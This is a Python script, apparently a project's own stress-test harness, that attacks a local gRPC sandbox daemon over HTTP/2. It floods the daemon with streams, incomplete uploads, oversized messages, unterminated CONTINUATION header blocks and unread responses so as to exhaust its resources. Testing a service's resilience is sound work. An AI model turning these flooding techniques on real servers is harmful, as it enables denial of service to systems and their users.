"""Sends many requests and reads no responses: attack.py SOCKET KIND CONNECTIONS STREAMS.

Prints its totals when the daemon neither accepts nor sends more data, and holds its connections until standard input ends.
"""

import collections
import resource
import select
import socket
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PUBLISHED, OWN = b"/agbox.v1.SandboxService/", b"/carrel.v1.Sandboxes/"
# After so many seconds without an event the daemon accepts and sends no more.
IDLE_TIMEOUT = 3


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(path):
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"),
              (b"content-type", b"application/grpc"), (b"te", b"trailers")]
    return b"".join(b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in fields)


def varint(number):
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def field(number, value):
    return bytes([number << 3 | 2]) + varint(len(value)) + value


def message(payload, missing=0):
    return b"\0" + struct.pack(">I", len(payload) + missing) + payload


def request(kind):
    """The path, the body, and whether the body is incomplete."""
    if kind == "upload":
        # A large message without its end.
        return PUBLISHED + b"CreateSandbox", message(b"\x1a" + varint((4 << 20) - 100) + bytes((4 << 20) - 200), 100), True
    if kind == "fields":
        services = field(1, b"\x2a\0" * (1 << 20))
        return PUBLISHED + b"CreateSandbox", message(services), False
    if kind == "list":
        return PUBLISHED + b"ListSandboxes", message(b"\x08\x01"), False
    if kind == "inspect":
        return OWN + b"InspectSandbox", message(field(1, b"large-0")), False
    if kind == "read":
        return OWN + b"ReadFile", message(field(1, b"large-0") + field(2, b"/workspace/large")), False
    if kind == "events":
        return PUBLISHED + b"SubscribeSandboxEvents", message(field(1, b"large-0")), False
    if kind in ("unread", "headers"):
        return PUBLISHED + b"GetSandbox", message(field(1, b"none")), False
    raise SystemExit("no such attack: " + kind)


class Attacker:
    def __init__(self, path, kind, streams):
        self.kind, self.streams = kind, streams
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect(path)
        self.socket.setblocking(False)
        # The daemon may send nothing on a stream; or, for responses that fill the socket, any amount.
        window = 2**31 - 1 if kind == "unread" else 0
        self.out = bytearray(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
        if kind == "unread":
            self.out += frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 1 - 65535))
        self.received, self.closed = bytearray(), False
        # The daemon's flow-control windows: initial, of the connection, and of each stream.
        self.initial, self.window, self.windows = 65535, 65535, {}
        self.bodies = collections.OrderedDict()
        self.path, self.body, self.partial = request(kind)
        self.started, self.sent, self.ended = 0, 0, 0
        if kind == "headers":
            # A header block without an end.
            self.streams = 0
            for number in range(8):
                self.out += frame(HEADERS if number == 0 else CONTINUATION, 0, 1, bytes(8000))

    def fill(self):
        # As many concurrent streams as the daemon allows; each response makes room for another.
        while self.started < self.streams and len(self.out) < 1 << 16 and self.started - self.ended < 1000:
            stream = 1 + 2 * self.started
            self.started += 1
            self.out += frame(HEADERS, END_HEADERS, stream, headers(self.path))
            self.bodies[stream], self.windows[stream] = 0, 0
        for stream in list(self.bodies):
            while len(self.out) < 1 << 18:
                done = self.bodies[stream]
                size = min(16384, len(self.body) - done, self.initial + self.windows[stream], self.window)
                if done == len(self.body) or size <= 0:
                    break
                last = done + size == len(self.body) and not self.partial
                self.out += frame(DATA, END_STREAM if last else 0, stream, self.body[done:done + size])
                self.bodies[stream] = done + size
                self.windows[stream] -= size
                self.window -= size
                self.sent += size
            if self.bodies[stream] == len(self.body):
                del self.bodies[stream]

    def write(self):
        self.fill()
        try:
            while self.out:
                count = self.socket.send(self.out[:1 << 16])
                del self.out[:count]
                self.fill()
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True

    def read(self):
        if self.kind == "unread" and self.started:
            # Responses stay in the socket.
            return False
        try:
            data = self.socket.recv(1 << 18)
        except BlockingIOError:
            return False
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return True
        self.received += data
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                break
            kind, flags, stream = self.received[3], self.received[4], int.from_bytes(self.received[5:9], "big")
            self.handle(kind, flags, stream, bytes(self.received[9:9 + length]))
            del self.received[:9 + length]
        return True

    def handle(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[at:at + 6])
                if name == 4:
                    self.initial = value
            self.out += frame(SETTINGS, ACK, 0)
        elif kind == PING and not flags & ACK:
            self.out += frame(PING, ACK, 0, payload)
        elif kind == WINDOW and stream == 0:
            self.window += struct.unpack(">I", payload)[0]
        elif kind == WINDOW and stream in self.windows:
            self.windows[stream] += struct.unpack(">I", payload)[0]
        elif kind == RESET or kind in (DATA, HEADERS) and flags & END_STREAM:
            self.ended += 1
            self.bodies.pop(stream, None)
            self.windows.pop(stream, None)
        elif kind == GOAWAY:
            self.closed = True


def main():
    path, kind, connections, streams = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    attackers = {}
    poll = select.epoll()
    for _ in range(connections):
        attacker = Attacker(path, kind, streams)
        attackers[attacker.socket.fileno()] = attacker
        poll.register(attacker.socket, select.EPOLLIN | select.EPOLLOUT | select.EPOLLET)
    while True:
        ready = poll.poll(IDLE_TIMEOUT)
        if not ready:
            break
        for number, _ in ready:
            attacker = attackers[number]
            # epoll is edge-triggered, so everything that is possible is done now.
            while not attacker.closed:
                before = len(attacker.out), attacker.sent
                attacker.write()
                if not attacker.read() and before == (len(attacker.out), attacker.sent):
                    break
            if attacker.closed:
                poll.unregister(attacker.socket)
    total = [sum(getattr(each, name) for each in attackers.values()) for name in ("started", "ended", "sent", "closed")]
    print(*total, flush=True)
    sys.stdin.read()


main()
